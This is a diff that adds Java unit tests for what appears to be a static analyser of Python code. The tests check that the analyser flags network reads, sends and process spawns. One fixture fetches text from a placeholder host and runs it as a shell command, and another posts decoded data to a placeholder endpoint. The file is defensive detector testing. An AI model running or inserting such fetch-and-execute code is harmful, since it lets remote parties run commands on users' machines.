@@ -390,4 +390,46 @@ class EvaluationTest {
                 """))
         .contains("SENDS https://k.example/ carries SOURCE_CODE at module.py:6 CALL");
   }
+
+  @Test
+  void whatAProgramOfTheCallersIsGivenDoesNotDecideWhatIsRun() {
+    assertThat(
+            ActLines.ofModule(
+                """
+                import requests, shlex, subprocess
+                def play(player):
+                    url = requests.get('https://media.example/list').text
+                    subprocess.call([player, url])
+                    subprocess.call(shlex.split(player) + url.split())
+                """))
+        .containsExactly(
+            "RECEIVES https://media.example/list at module.py:3 CALL",
+            "SPAWNS … … at module.py:4 CALL",
+            "SPAWNS … … at module.py:5 CALL");
+    assertThat(
+            ActLines.ofModule(
+                """
+                import requests, shlex, subprocess
+                def obey(shell):
+                    text = requests.get('https://collect.example/list').text
+                    subprocess.call([shell, '-c', text])
+                    subprocess.call(shlex.split(text))
+                """))
+        .containsExactly(
+            "RECEIVES https://collect.example/list at module.py:3 CALL",
+            "SPAWNS … -c … carries REMOTE at module.py:4 CALL",
+            "SPAWNS … carries REMOTE at module.py:5 CALL");
+  }
+
+  @Test
+  void whatIsDecodedIsSentToAPlaceInPlainSight() {
+    assertThat(
+            ActLines.ofModule(
+                """
+                import base64, requests
+                def report(value):
+                    requests.post('https://a.example/in', data=base64.b64decode(value))
+                """))
+        .containsExactly("SENDS https://a.example/in at module.py:3 CALL");
+  }
 }
